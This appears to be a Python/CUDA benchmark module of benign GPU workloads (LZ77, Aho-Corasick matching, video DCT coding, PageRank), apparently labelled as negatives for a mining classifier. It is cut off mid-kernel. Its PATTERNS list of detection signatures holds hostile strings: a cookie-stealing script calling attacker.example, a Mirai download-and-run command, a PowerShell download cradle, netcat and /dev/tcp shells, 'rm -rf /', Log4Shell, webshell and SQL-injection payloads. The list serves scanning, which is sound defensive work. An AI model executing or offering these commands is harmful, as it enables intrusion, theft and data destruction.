"""LZ77 match finding, multi-pattern DFA matching, intra video coding, PageRank and a radix join (label 0).

More benign work that looks like mining in pipe terms (integer-heavy, hash tables, random access) but is
ordinary, so the model has to learn finer differences:

  lz77      LZ4-style greedy match finding over 1 GiB of compressible synthetic log text: a thread a 64 KiB
            chunk hashes each 4-byte prefix (multiply-shift, 9 bits) into its own 512-entry slice of the
            block's shared-memory table of 16-bit positions, checks the candidate, extends a match 4 bytes at a
            time, skips faster after misses (as LZ4 does); literal, match and estimated output byte counts
  regex     multi-pattern matching: an Aho-Corasick DFA of 64 signatures (about 1,800 states x 256 bytes of
            32-bit entries, next state and match count, in global memory through the read-only cache) built on
            the host, over 1 GiB of synthetic log lines; a thread a 4 KiB chunk (starting the longest pattern
            early, so matches across chunk edges count once)
  video     JPEG/H.264-like intra coding of 8 4K frames (3840x2160 4:2:0, 8-bit): 8x8 integer DCT (the H.264
            8x8 fixed-point butterfly), quantisation at 4 scales of the JPEG luma table (reciprocal multiply),
            zig-zag, run-length and bit-size estimation (DC differences, run/size codes), the finest scale within
            a bit budget chosen; a thread codes a strip of 8 blocks, coefficients in shared memory
  pagerank  PageRank pull iterations, fp32: a 16M-node CSR graph of about 134M edges (power-law-ish in-degrees,
            capped at 1024; sources skewed towards hubs), a thread a node gathers rank / out-degree of its
            in-neighbours; dangling mass spread evenly; the L1 change summed each iteration
  radixjoin radix-partitioned hash join: a 2^21-key build side and a 2^27-key probe side (64-bit keys, half
            of the probes match), each histogrammed on 11 hash bits (shared-memory atomics), prefix-summed,
            scattered into 2048 partitions (a block a 4096-key tile reserves ranges), then a block a partition
            builds a 4096-slot linear-probing table in shared memory (64-bit atomicCAS) and probes it

Each launch is sized to take a few to tens of ms on an H200; a step is as many launches as make about 50 ms
(timed at set-up, before READY). A summary line (checksums, counts) goes to stderr at the end.
"""

import numpy as np

from common import SPLITMIX_CUDA, calibrated_launches, cupy_loop, note, repeat_step, sms

# sizes (module constants so a test can shrink them)
LZ_BYTES = 1 << 30
LZ_CHUNK = 64 << 10
RE_BYTES = 1 << 30
RE_CHUNK = 4 << 10
RE_POOL_LINES = 8192
VID_W, VID_H, VID_FRAMES = 3840, 2160, 8
PR_NODES = 1 << 24
RJ_BUILD = 1 << 21
RJ_PROBE = 1 << 27


# ---- lz77 --------------------------------------------------------------------------------------------------------

LZ_THREADS = 32
LZ_HBITS = 9

LZ77_SRC = SPLITMIX_CUDA + r"""
#define LZ_THREADS %THREADS%
#define LZ_HBITS %HBITS%
#define LZ_EMPTY 0xFFFFu
// four printable bytes (0x20..0x7E) from a hash
__device__ __forceinline__ unsigned int printable(unsigned long long h) {
  unsigned int w = 0;
#pragma unroll
  for (int b = 0; b < 4; ++b) w |= (0x20u + ((((unsigned int)(h >> (8 * b))) & 255u) * 95u >> 8)) << (8 * b);
  return w;
}
// log-like text, 64-byte lines of 16 words: a line picks one of 64 templates (skewed: low ids common); words 1-2
// are decimal digits of a counter, word 9 random in a quarter of the lines, word 15 ends with a newline
extern "C" __global__ void lz_make(unsigned int* out, unsigned long long words, unsigned long long seed) {
  for (unsigned long long i = (unsigned long long)blockIdx.x * blockDim.x + threadIdx.x; i < words;
       i += (unsigned long long)gridDim.x * blockDim.x) {
    const unsigned long long line = i >> 4;
    const unsigned int j = (unsigned int)(i & 15);
    const unsigned long long h = splitmix(line ^ seed);
    const unsigned int t = (unsigned int)(h & 63) & (unsigned int)((h >> 6) & 63);
    unsigned int w;
    if (j == 1 || j == 2) {
      unsigned int v = (unsigned int)(line * 7u) / (j == 1 ? 10000u : 1u);
      w = 0;
      for (int b = 0; b < 4; ++b, v /= 10u) w |= (0x30u + v % 10u) << (8 * (3 - b));
    } else if (j == 9 && ((h >> 12) & 3) == 0) {
      w = printable(splitmix(i + seed));
    } else {
      w = printable(splitmix(((unsigned long long)t << 4 | j) + seed + 1));
    }
    if (j == 15) w = (w & 0x00FFFFFFu) | 0x0A000000u;
    out[i] = w;
  }
}
// bytes pos..pos+3 of a chunk (little-endian), from the two aligned words that hold them
__device__ __forceinline__ unsigned int load32(const unsigned int* w, unsigned int pos) {
  const unsigned int i = pos >> 2;
  return __funnelshift_r(w[i], w[i + 1], (pos & 3u) * 8u);
}
// LZ4-style greedy parse of each `len`-byte chunk (len <= 65536, a multiple of 4); a thread a chunk, its hash table
// a 2^LZ_HBITS slice of 16-bit positions in shared memory. stats: literals, matches, matched bytes, output bytes
extern "C" __global__ void lz_match(const unsigned int* __restrict__ data, unsigned long long chunks, unsigned int len,
                                    unsigned long long* stats) {
  __shared__ unsigned short table[LZ_THREADS << LZ_HBITS];
  unsigned short* tab = table + (threadIdx.x << LZ_HBITS);
  unsigned long long lits = 0, nmatch = 0, mbytes = 0, out = 0;
  for (unsigned long long c = (unsigned long long)blockIdx.x * blockDim.x + threadIdx.x; c < chunks;
       c += (unsigned long long)gridDim.x * blockDim.x) {
    const unsigned int* w = data + c * (len >> 2);
    for (int i = 0; i < (1 << LZ_HBITS); ++i) tab[i] = (unsigned short)LZ_EMPTY;
    unsigned int p = 0, anchor = 0, misses = 0;
    const unsigned int limit = len - 12;  // as LZ4: no match starts in the last 12 bytes, the last 5 are literals
    while (p < limit) {
      const unsigned int v = load32(w, p);
      const unsigned int h = (v * 2654435761u) >> (32 - LZ_HBITS);
      const unsigned int cand = tab[h];
      tab[h] = (unsigned short)p;
      if (cand != LZ_EMPTY && load32(w, cand) == v) {
        unsigned int m = 4;
        while (p + m + 4 <= len - 5) {
          const unsigned int x = load32(w, p + m) ^ load32(w, cand + m);
          if (x) {
            m += (unsigned int)(__ffs((int)x) - 1) >> 3;
            break;
          }
          m += 4;
        }
        const unsigned int lit = p - anchor;
        lits += lit;
        ++nmatch;
        mbytes += m;
        // a sequence: token, extra literal-length bytes, literals, 2-byte offset, extra match-length bytes
        out += 3 + lit + (lit >= 15 ? (lit - 15) / 255 + 1 : 0) + (m >= 19 ? (m - 19) / 255 + 1 : 0);
        p += m;
        anchor = p;
        misses = 0;
      } else {
        p += 1 + (misses++ >> 6);
      }
    }
    const unsigned int lit = len - anchor;
    lits += lit;
    out += 1 + lit + (lit >= 15 ? (lit - 15) / 255 + 1 : 0);
  }
  for (int o = 16; o > 0; o >>= 1) {
    lits += __shfl_down_sync(0xFFFFFFFFu, lits, o);
    nmatch += __shfl_down_sync(0xFFFFFFFFu, nmatch, o);
    mbytes += __shfl_down_sync(0xFFFFFFFFu, mbytes, o);
    out += __shfl_down_sync(0xFFFFFFFFu, out, o);
  }
  if ((threadIdx.x & 31) == 0) {
    atomicAdd(&stats[0], lits);
    atomicAdd(&stats[1], nmatch);
    atomicAdd(&stats[2], mbytes);
    atomicAdd(&stats[3], out);
  }
}
""".replace("%THREADS%", str(LZ_THREADS)).replace("%HBITS%", str(LZ_HBITS))


def lz77(variant, clock):
    if variant != "match":
        raise ValueError(f"unknown variant {variant!r}")
    import cupy as cp
    assert LZ_CHUNK <= 65536 and LZ_CHUNK % 64 == 0 and LZ_BYTES % LZ_CHUNK == 0
    assert 2 * (LZ_THREADS << LZ_HBITS) <= 48 << 10
    mod = cp.RawModule(code=LZ77_SRC)
    make, kern = mod.get_function("lz_make"), mod.get_function("lz_match")
    words = LZ_BYTES // 4 + 4  # a spare 16 bytes: the last chunk's last aligned word pair
    data = cp.empty(words, dtype=cp.uint32)
    make((sms() * 8,), (256,), (data, np.uint64(words), np.uint64(0x1277)))
    chunks = LZ_BYTES // LZ_CHUNK
    grid = (chunks + LZ_THREADS - 1) // LZ_THREADS
    stats = cp.zeros(4, dtype=cp.uint64)
    passes = [0]

    def launch():  # the whole buffer parsed once
        kern((grid,), (LZ_THREADS,), (data, np.uint64(chunks), np.uint32(LZ_CHUNK), stats))
        passes[0] += 1
    n, per = calibrated_launches(launch, 64)
    cupy_loop(repeat_step(launch, n), clock)
    lits, nmatch, mbytes, out = (int(v) for v in stats.tolist())
    total = passes[0] * LZ_BYTES
    note(f"lz77/{variant}: {passes[0]} passes of {LZ_BYTES >> 20} MiB in {LZ_CHUNK >> 10} KiB chunks, "
         f"{lits / total:.3f} literal, {mbytes / total:.3f} matched ({nmatch // max(1, passes[0])} matches a pass, "
         f"{mbytes / max(1, nmatch):.1f} bytes each), ratio {total / max(1, out):.2f}, check {lits + mbytes == total}, "
         f"{per * 1e3:.1f} ms a pass, {n} a step")


# ---- regex -------------------------------------------------------------------------------------------------------

PATTERNS = [
    "GET /admin/config.php?action=backup&file=../../../../etc/shadow HTTP/1.1",
    "POST /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget -O- http://", "' OR '1'='1",
    "UNION SELECT", "<script>document.location='http://attacker.example/steal?c='+document.cookie</script>",
    "javascript:", "../../", "/etc/passwd",
    "cmd.exe /c powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString(", "powershell -enc",
    "wget http://", "curl -s http", "base64 -d", "/bin/sh -i", "'; DROP TABLE users; SELECT pg_sleep(10); --",
    "xp_cmdshell", "eval(base64_decode($_POST['payload']));", "document.cookie", "onerror=", "%27%20OR%20",
    "sqlmap/1.", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", "masscan/", "Failed password for",
    "Invalid user", "authentication failure", "segfault at", "Out of memory: Kill process",
    "Kernel panic - not syncing: Fatal exception in interrupt", "Connection refused", "timed out after",
    "HTTP/1.1\" 500", "HTTP/1.1\" 403", "password=", "api_key=", "Authorization: Basic",
    "-----BEGIN RSA PRIVATE KEY-----", "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "cd /tmp; wget http://198.51.100.7/bins/mirai.x86; chmod 777 mirai.x86; ./mirai.x86", "rm -rf /", "nc -e /bin/",
    "/dev/tcp/", "${jndi:ldap://", "() { :; };", "SELECT * FROM users WHERE",
    "/api/jsonws/invoke?cmd={\"/expandocolumn/add-column\":{}}&p_auth=", "benchmark(10000000,md5(1))", "<iframe src=",
    "/wp-admin/admin-ajax.php?action=", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0",
    "User-Agent: () { ignored; }; echo", "/phpmyadmin/index.php?route=/sql", "/.git/config",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system", "/actuator/env",
    "/solr/admin/cores?action=", "stratum+tcp://", "xmrig --donate-level", "minerd -a cryptonight -o",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
]
HOSTS = ["web-01", "web-02", "db-main", "cache-3", "edge-fra", "edge-iad", "auth", "batch-7"]
WORDS = ("GET POST PUT HEAD /index.html /api/v2/items /static/app.js /images/logo.png /login /search?q=shoes "
         "200 200 200 304 404 301 OK user=alice user=bob session=ok latency_ms=12 bytes=5120 retry=0 "
         "cache=hit cache=miss upstream=10.0.3.7:8080 ua=Mozilla/5.0 ref=- proto=HTTP/1.1 level=info "
         "level=warn msg=request msg=served id=42 job=nightly pass through SELECT count FROM orders").split()


def _dfa(patterns):
    """Aho-Corasick as a full DFA: entry [s, byte] = next state | (patterns ending there, with suffixes) << 16."""
    goto, out = [{}], [0]
    for pat in patterns:
        s = 0
        for ch in pat.encode():
            if ch not in goto[s]:
                goto[s][ch] = len(goto)
                goto.append({})
                out.append(0)
            s = goto[s][ch]
        out[s] += 1
    n = len(goto)
    assert n < 1 << 16
    delta = np.zeros((n, 256), dtype=np.int64)
    fail = [0] * n
    queue = []
    for ch, t in goto[0].items():
        delta[0, ch] = t
        queue.append(t)
    for s in queue:  # breadth first: a state's failure state is shallower, so done before it
        out[s] += out[fail[s]]
        delta[s] = delta[fail[s]]
        for ch, t in goto[s].items():
            fail[t] = int(delta[fail[s], ch])
            delta[s, ch] = t
            queue.append(t)
    outs = np.array(out, dtype=np.int64)
    return (delta | (outs[delta] << 16)).astype(np.uint32), n


def _log_pool(lines, rng):
    """`lines` 128-byte log lines (8 hex digits of sequence number first, patched on the GPU); one in 12 carries a
    pattern, one in 12 a pattern's prefix (a near miss that walks the DFA deep)."""
    out = []
    for i in range(lines):
        parts = [f"{0:08x}", f"Dec 02 {i % 24:02d}:{i * 7 % 60:02d}:{i * 13 % 60:02d}", HOSTS[rng.integers(len(HOSTS))]]
        r = rng.integers(12)
        ws = [WORDS[k] for k in rng.integers(len(WORDS), size=12)]
        if r == 0:
            ws.insert(int(rng.integers(4)), PATTERNS[rng.integers(len(PATTERNS))])
        elif r == 1:
            p = PATTERNS[rng.integers(len(PATTERNS))]
            ws.insert(int(rng.integers(4)), p[:max(1, len(p) - 1 - int(rng.integers(3)))])
        s = " ".join(parts + ws)[:127].ljust(127) + "\n"
        out.append(s.encode())
    return np.frombuffer(b"".join(out), dtype=np.uint32).copy()


REGEX_SRC = r"""
// 128-byte lines copied from a pool by a hash of the line number; the first 8 bytes become its hex sequence number
extern "C" __global__ void re_make(uint4* out, unsigned long long lines, const uint4* __restrict__ pool,
                                   unsigned int npool, unsigned long long seed) {
  for (unsigned long long l = (unsigned long long)blockIdx.x * blockDim.x + threadIdx.x; l < lines;
       l += (unsigned long long)gridDim.x * blockDim.x) {
    unsigned long long h = (l ^ seed) * 0x9E3779B97F4A7C15ull;
    h ^= h >> 29;
    const uint4* src = pool + (h % npool) * 8;
    uint4* dst = out + l * 8;
    for (int k = 1; k < 8; ++k) dst[k] = src[k];
    uint4 v = src[0];
    unsigned int hex[2] = {0u, 0u};
    for (int d = 0; d < 8; ++d) {
      const unsigned int nib = (unsigned int)(l >> (28 - 4 * d)) & 15u;
      hex[d >> 2] |= (nib < 10u ? 0x30u + nib : 0x57u + nib) << (8 * (d & 3));
    }
    v.x = hex[0];
    v.y = hex[1];
    dst[0] = v;
  }
}
// a thread a chunk of `len` bytes (a multiple of 16): the DFA from state 0, started `warm` bytes early (a multiple
// of 16, at least the longest pattern less one) so that a match ending in the chunk is counted there and only there.
// stats: matches, chunks with a match
extern "C" __global__ void dfa_scan(const uint4* __restrict__ text, unsigned long long chunks, unsigned int len,
                                    unsigned int warm, const unsigned int* __restrict__ delta,
                                    unsigned long long* stats) {
  unsigned long long found = 0, ends = 0;
  for (unsigned long long c = (unsigned long long)blockIdx.x * blockDim.x + threadIdx.x; c < chunks;
       c += (unsigned long long)gridDim.x * blockDim.x) {
    const unsigned long long begin = c * len, from = begin < warm ? 0 : begin - warm, end = begin + len;
    unsigned int s = 0, n = 0, skip = 0;
    for (unsigned long long q = from >> 4; q < end >> 4; ++q) {
      if ((q << 4) == begin) skip = n;
      const uint4 v = text[q];
      const unsigned int w[4] = {v.x, v.y, v.z, v.w};
#pragma unroll
      for (int k = 0; k < 4; ++k) {
#pragma unroll
        for (int b = 0; b < 4; ++b) {
          const unsigned int e = __ldg(delta + (s << 8) + ((w[k] >> (8 * b)) & 255u));
          s = e & 0xFFFFu;
          n += e >> 16;
        }
      }
    }
    found += n - skip;
    ends += n != skip;
  }
  for (int o = 16; o > 0; o >>= 1) {
    found += __shfl_down_sync(0xFFFFFFFFu, found, o);
    ends += __shfl_down_sync(0xFFFFFFFFu, ends, o);
  }
  if ((threadIdx.x & 31) == 0) {
    atomicAdd(&stats[0], found);
    atomicAdd(&stats[1], ends);
  }
}
"""


def regex(variant, clock):
    if variant != "dfa":
        raise ValueError(f"unknown variant {variant!r}")
    import cupy as cp
    assert RE_BYTES % RE_CHUNK == 0 and RE_CHUNK % 16 == 0 and RE_BYTES % 128 == 0
    table, states = _dfa(PATTERNS)
    warm = (max(len(p.encode()) for p in PATTERNS) - 1 + 15) // 16 * 16
    pool = cp.asarray(_log_pool(RE_POOL_LINES, np.random.default_rng(0x5E)))
    delta = cp.asarray(table.ravel())
    mod = cp.RawModule(code=REGEX_SRC)
    make, kern = mod.get_function("re_make"), mod.get_function("dfa_scan")
    text = cp.empty(RE_BYTES // 4, dtype=cp.uint32)
    make((sms() * 8,), (256,), (text, np.uint64(RE_BYTES // 128), pool, np.uint32(RE_POOL_LINES), np.uint64(0xD1CE)))
    del pool
    chunks = RE_BYTES // RE_CHUNK
    block = 128
    grid = (chunks + block - 1) // block
    stats = cp.zeros(2, dtype=cp.uint64)
    passes = [0]

    def launch():  # the whole text scanned once
        kern((grid,), (block,), (text, np.uint64(chunks), np.uint32(RE_CHUNK), np.uint32(warm), delta, stats))
        passes[0] += 1
    n, per = calibrated_launches(launch, 64)
    cupy_loop(repeat_step(launch, n), clock)
    found, ends = int(stats[0]), int(stats[1])
    note(f"regex/{variant}: {len(PATTERNS)} patterns, {states} DFA states ({table.nbytes >> 10} KiB), {passes[0]} "
         f"passes of {RE_BYTES >> 20} MiB in {RE_CHUNK >> 10} KiB chunks, {found // max(1, passes[0])} matches a pass, "
         f"{ends // max(1, passes[0])} of {chunks} chunks with one, {per * 1e3:.1f} ms a pass, {n} a step")


# ---- video -------------------------------------------------------------------------------------------------------

VID_THREADS = 128
VID_SCALES = (0.5, 1.0, 2.0, 4.0)  # of the JPEG luma table, finest first
JPEG_LUMA = np.array([
    16, 11, 10, 16, 24, 40, 51, 61, 12, 12, 14, 19, 26, 58, 60, 55, 14, 13, 16, 24, 40, 57, 69, 56,
    14, 17, 22, 29, 51, 87, 80, 62, 18, 22, 37, 56, 68, 109, 103, 77, 24, 35, 55, 64, 81, 104, 113, 92,
    49, 64, 78, 87, 103, 121, 120, 101, 72, 92, 95, 98, 112, 100, 103, 99], dtype=np.float64)


def _zigzag():
    """Raster index of each zig-zag position of an 8x8 block."""
    order = sorted(((y, x) for y in range(8) for x in range(8)),
                   key=lambda p: (p[0] + p[1], p[0] if (p[0] + p[1]) % 2 else p[1]))
    return np.array([y * 8 + x for y, x in order], dtype=np.int32)


def _video_tables():
    """4 x 64 reciprocals (2^16 / step, the H.264 8x8 transform has a gain of about 8 over JPEG's DCT) + the zig-zag."""
    recip = [np.maximum(1, np.round(65536.0 / (JPEG_LUMA * 8.0 * s))) for s in VID_SCALES]
    return np.concatenate(recip + [_zigzag()]).astype(np.int32)


VIDEO_SRC = r"""
#define VT %THREADS%
__device__ __forceinline__ unsigned int mix32(unsigned int x) {
  x ^= x >> 16; x *= 0x7FEB352Du; x ^= x >> 15; x *= 0x846CA68Bu; x ^= x >> 16;
  return x;
}
// frames of w x h luma then two (w/2) x (h/2) chroma planes: a moving gradient, textured and flat 64x64 regions,
// a little noise
extern "C" __global__ void vid_make(unsigned char* frames, unsigned long long n, int w, int h) {
  const unsigned long long fb = (unsigned long long)w * h * 3 / 2, luma = (unsigned long long)w * h;
  for (unsigned long long i = (unsigned long long)blockIdx.x * blockDim.x + threadIdx.x; i < n;
       i += (unsigned long long)gridDim.x * blockDim.x) {
    const unsigned int f = (unsigned int)(i / fb);
    unsigned long long r = i % fb;
    unsigned int x, y, pl = 0;
    if (r < luma) {
      x = (unsigned int)(r % w); y = (unsigned int)(r / w);
    } else {
      r -= luma;
      pl = 1 + (unsigned int)(r / (luma / 4)); r %= luma / 4;
      x = (unsigned int)(r % (w / 2)); y = (unsigned int)(r / (w / 2));
    }
    int v = pl ? 128 + (int)((x + 3 * f) >> 5) % 32 - 16 : (int)(((x + 2 * y + 8 * f) >> 4) & 127) + 48;
    const unsigned int region = mix32((x >> 6) * 7919u + (y >> 6) * 104729u + pl);
    if (region & 1u) v += (int)(((x * 3u) ^ (y * 5u)) & 63u) - 32;
    if (region & 6u) v += (int)(mix32((unsigned int)i * 2654435761u + f) & ((region & 2u) ? 31u : 7u)) - ((region & 2u) ? 16 : 4);
    frames[i] = (unsigned char)(v < 0 ? 0 : v > 255 ? 255 : v);
  }
}
// the H.264 8x8 integer transform, one dimension (x264's dct8 butterfly)
#define DCT8(s0, s1, s2, s3, s4, s5, s6, s7, D)                     \
  {                                                                  \
    const int s07 = s0 + s7, s16 = s1 + s6, s25 = s2 + s5, s34 = s3 + s4; \
    const int a0 = s07 + s34, a1 = s16 + s25, a2 = s07 - s34, a3 = s16 - s25; \
    const int d07 = s0 - s7, d16 = s1 - s6, d25 = s2 - s5, d34 = s3 - s4; \
    const int a4 = d16 + d25 + (d07 + (d07 >> 1));                  \
    const int a5 = d07 - d34 - (d25 + (d25 >> 1));                  \
    const int a6 = d07 + d34 - (d16 + (d16 >> 1));                  \
    const int a7 = d16 - d25 + (d34 + (d34 >> 1));                  \
    D(0) = a0 + a1; D(1) = a4 + (a7 >> 2); D(2) = a2 + (a3 >> 1); D(3) = a5 + (a6 >> 2); \
    D(4) = a0 - a1; D(5) = a6 - (a5 >> 2); D(6) = (a2 >> 1) - a3; D(7) = (a4 >> 2) - a7; \
  }
__device__ __forceinline__ int bitsize(int v) { return v ? 32 - __clz(v < 0 ? -v : v) : 0; }
// intra coding of `nframes` frames: a thread a strip of 8 horizontally adjacent 8x8 blocks (DC predicted from the
// previous block of the strip). tabs: 4 x 64 quantiser reciprocals (raster order), then the 64 zig-zag indices.
// stats: bits, blocks at each of the 4 scales, nonzero coefficients, sum of quantised DCs
extern "C" __global__ void vid_code(const unsigned char* __restrict__ frames, unsigned int nframes, int w, int h,
                                    const int* __restrict__ tabs, int budget, unsigned long long* stats) {
  __shared__ int coef[64 * VT];
  __shared__ int recip[4 * 64], zz[64];
  for (int t = threadIdx.x; t < 4 * 64; t += blockDim.x) recip[t] = tabs[t];
  for (int t = threadIdx.x; t < 64; t += blockDim.x) zz[t] = tabs[256 + t];
  __syncthreads();
  int* my = coef + threadIdx.x;  // coefficient k at my[k * VT]
  const unsigned long long fb = (unsigned long long)w * h * 3 / 2, luma = (unsigned long long)w * h;
  const unsigned int ystrips = (unsigned int)(h / 8) * (w / 64), cstrips = (unsigned int)(h / 16) * (w / 128);
  const unsigned long long per = ystrips + 2ull * cstrips, items = per * nframes;
  unsigned long long bits = 0, nz = 0, dcs = 0, at[4] = {0, 0, 0, 0};
  for (unsigned long long it = (unsigned long long)blockIdx.x * blockDim.x + threadIdx.x; it < items;
       it += (unsigned long long)gridDim.x * blockDim.x) {
    const unsigned long long f = it / per;
    unsigned int r = (unsigned int)(it % per);
    unsigned long long base = f * fb;
    int pw = w;
    if (r >= ystrips) {
      r -= ystrips;
      base += luma + (r >= cstrips ? luma / 4 : 0);
      r %= cstrips;
      pw = w / 2;
    }
    const unsigned int per_row = (unsigned int)pw / 64, by = r / per_row, sx = r % per_row;
    int prev[4] = {0, 0, 0, 0};
    for (int blk = 0; blk < 8; ++blk) {
      const unsigned char* src = frames + base + (unsigned long long)(by * 8) * pw + sx * 64 + blk * 8;
#pragma unroll
      for (int row = 0; row < 8; ++row) {
        const uint2 p = *reinterpret_cast<const uint2*>(src + (unsigned long long)row * pw);
        const int s0 = (int)(p.x & 255u) - 128, s1 = (int)((p.x >> 8) & 255u) - 128, s2 = (int)((p.x >> 16) & 255u) - 128,
                  s3 = (int)(p.x >> 24) - 128, s4 = (int)(p.y & 255u) - 128, s5 = (int)((p.y >> 8) & 255u) - 128,
                  s6 = (int)((p.y >> 16) & 255u) - 128, s7 = (int)(p.y >> 24) - 128;
#define DROW(k) my[(row * 8 + (k)) * VT]
        DCT8(s0, s1, s2, s3, s4, s5, s6, s7, DROW)
#undef DROW
      }
#pragma unroll
      for (int col = 0; col < 8; ++col) {
        const int s0 = my[col * VT], s1 = my[(8 + col) * VT], s2 = my[(16 + col) * VT], s3 = my[(24 + col) * VT],
                  s4 = my[(32 + col) * VT], s5 = my[(40 + col) * VT], s6 = my[(48 + col) * VT], s7 = my[(56 + col) * VT];
#define DCOL(k) my[((k) * 8 + col) * VT]
        DCT8(s0, s1, s2, s3, s4, s5, s6, s7, DCOL)
#undef DCOL
      }
      int chosen = 3, cbits = 0, cnz = 0, cdc = 0;
      for (int q = 0; q < 4; ++q) {
        const int* rq = recip + q * 64;
        const int c0 = my[0];
        const int dc = (int)(((unsigned int)(c0 < 0 ? -c0 : c0) * (unsigned int)rq[0] + 32768u) >> 16) * (c0 < 0 ? -1 : 1);
        const int dsz = bitsize(dc - prev[q]);
        prev[q] = dc;
        int b = dsz + (dsz < 2 ? 2 + dsz : dsz + 1), run = 0, n = 0;
        for (int i = 1; i < 64; ++i) {
          const int k = zz[i], c = my[k * VT];
          const int lvl = (int)(((unsigned int)(c < 0 ? -c : c) * (unsigned int)rq[k] + 32768u) >> 16);
          if (lvl == 0) {
            ++run;
          } else {
            for (; run > 15; run -= 16) b += 11;  // ZRL
            const int sz = bitsize(lvl);
            b += sz + 2 + sz + (run >> 1) + (run > 0);  // the run/size code, about, and the amplitude
            run = 0;
            ++n;
          }
        }
        if (run) b += 4;  // EOB
        if (q == chosen || b <= budget) {
          chosen = q; cbits = b; cnz = n; cdc = dc;
          break;
        }
      }
      bits += cbits; nz += cnz; dcs += (unsigned long long)(long long)cdc;
      at[chosen] += 1;
    }
  }
  for (int o = 16; o > 0; o >>= 1) {
    bits += __shfl_down_sync(0xFFFFFFFFu, bits, o);
    nz += __shfl_down_sync(0xFFFFFFFFu, nz, o);
    dcs += __shfl_down_sync(0xFFFFFFFFu, dcs, o);
    for (int q = 0; q < 4; ++q) at[q] += __shfl_down_sync(0xFFFFFFFFu, at[q], o);
  }
  if ((threadIdx.x & 31) == 0) {
    atomicAdd(&stats[0], bits);
    for (int q = 0; q < 4; ++q) atomicAdd(&stats[1 + q], at[q]);
    atomicAdd(&stats[5], nz);
    atomicAdd(&stats[6], dcs);
  }
}
""".replace("%THREADS%", str(VID_THREADS))

VID_BUDGET = 64  # bits a block (1 bit a pixel): the finest scale within it is chosen


def video(variant, clock):
    if variant != "dct":
        raise ValueError(f"unknown variant {variant!r}")
    import cupy as cp
    assert VID_W % 128 == 0 and VID_H % 16 == 0
    mod = cp.RawModule(code=VIDEO_SRC)
    make, kern = mod.get_function("vid_make"), mod.get_function("vid_code")
    nbytes = VID_W * VID_H * 3 // 2 * VID_FRAMES
    frames = cp.empty(nbytes, dtype=cp.uint8)
    make((sms() * 8,), (256,), (frames, np.uint64(nbytes), np.int32(VID_W), np.int32(VID_H)))
    tabs = cp.asarray(_video_tables())
    items = (VID_H // 8 * (VID_W // 64) + 2 * (VID_H // 16) * (VID_W // 128)) * VID_FRAMES
    grid = (items + VID_THREADS - 1) // VID_THREADS
    stats = cp.zeros(7, dtype=cp.uint64)
    passes = [0]

    def launch():  # every frame coded once
        kern((grid,), (VID_THREADS,), (frames, np.uint32(VID_FRAMES), np.int32(VID_W), np.int32(VID_H), tabs,
                                       np.int32(VID_BUDGET), stats))
        passes[0] += 1
    n, per = calibrated_launches(launch, 256)
    cupy_loop(repeat_step(launch, n), clock)
    s = [int(v) for v in stats.tolist()]
    blocks = max(1, sum(s[1:5]))
    note(f"video/{variant}: {passes[0]} passes of {VID_FRAMES} {VID_W}x{VID_H} 4:2:0 frames ({blocks // max(1, passes[0])} "
         f"blocks a pass), {s[0] / blocks / 64:.3f} bits a pixel, scales chosen {[round(v / blocks, 3) for v in s[1:5]]}, "
         f"{s[5] / blocks:.2f} nonzero a block, DC sum {s[6] - (1 << 64) if s[6] >= 1 << 63 else s[6]}, "
         f"{per * 1e3:.2f} ms a pass, {n} a step")


# ---- pagerank ----------------------------------------------------------------------------------------------------

PAGERANK_SRC = SPLITMIX_CUDA + r"""
// in-degree of each node: 2 + 6 (u^-1/2 - 1), u uniform in (0, 1] (mean about 8, a power-law tail), capped at 1024
extern "C" __global__ void pr_degrees(int* deg, unsigned int n, unsigned long long seed) {
  for (unsigned int v = blockIdx.x * blockDim.x + threadIdx.x; v < n; v += gridDim.x * blockDim.x) {
    const float u = (float)((splitmix(v + seed) >> 40) + 1) * (1.0f / 16777216.0f);
    const float d = 2.0f + 6.0f * (1.0f / sqrtf(u) - 1.0f);
    deg[v] = d > 1024.0f ? 1024 : (int)d;
  }
}
// the source of each edge: u^2 n (dense near 0: hubs), scattered over the nodes by an odd multiplier (n a power of 2)
extern "C" __global__ void pr_sources(unsigned int* col, unsigned long long edges, unsigned int n,
                                      unsigned long long seed, unsigned int* outdeg) {
  for (unsigned long long e = (unsigned long long)blockIdx.x * blockDim.x + threadIdx.x; e < edges;
       e += (unsigned long long)gridDim.x * blockDim.x) {
    const float u = (float)(splitmix(e + seed) >> 40) * (1.0f / 16777216.0f);
    unsigned int x = (unsigned int)(u * u * (float)n);
    x = (x * 0x9E3779B1u) & (n - 1u);
    col[e] = x;
    atomicAdd(&outdeg[x], 1u);
  }
}
extern "C" __global__ void pr_contrib(const float* __restrict__ rank, const unsigned int* __restrict__ outdeg,
                                      float* contrib, unsigned int n, double* dangling) {
  double acc = 0.0;
  for (unsigned int v = blockIdx.x * blockDim.x + threadIdx.x; v < n; v += gridDim.x * blockDim.x) {
    const unsigned int d = outdeg[v];
    const float r = rank[v];
    contrib[v] = d ? r / (float)d : 0.0f;
    if (!d) acc += r;
  }
  for (int o = 16; o > 0; o >>= 1) acc += __shfl_down_sync(0xFFFFFFFFu, acc, o);
  if ((threadIdx.x & 31) == 0) atomicAdd(dangling, acc);
}
// next[v] = (1 - d) / n + d (dangling / n + sum over in-edges (u, v) of contrib[u]); the L1 change into *diff
extern "C" __global__ void pr_pull(const int* __restrict__ rowptr, const unsigned int* __restrict__ col,
                                   const float* __restrict__ contrib, const float* __restrict__ rank, float* next,
                                   unsigned int n, float damping, const double* __restrict__ dangling, double* diff) {
  const float base = (1.0f - damping) / (float)n + damping * (float)(dangling[0] / (double)n);
  double acc = 0.0;
  for (unsigned int v = blockIdx.x * blockDim.x + threadIdx.x; v < n; v += gridDim.x * blockDim.x) {
    float s = 0.0f;
    const int e1 = rowptr[v + 1];
